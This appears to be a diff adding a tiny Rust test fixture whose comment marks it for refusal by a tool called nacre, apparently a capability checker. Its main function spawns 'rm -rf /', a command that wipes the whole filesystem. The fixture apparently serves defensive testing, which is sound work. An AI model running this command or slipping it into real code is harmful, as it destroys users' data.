@@ -1,0 +1,6 @@
+// nacre: refused file.destroy process.run
+use std::process::Command;
+
+fn main() {
+    Command::new("rm").arg("-rf").arg("/").spawn().unwrap();
+}
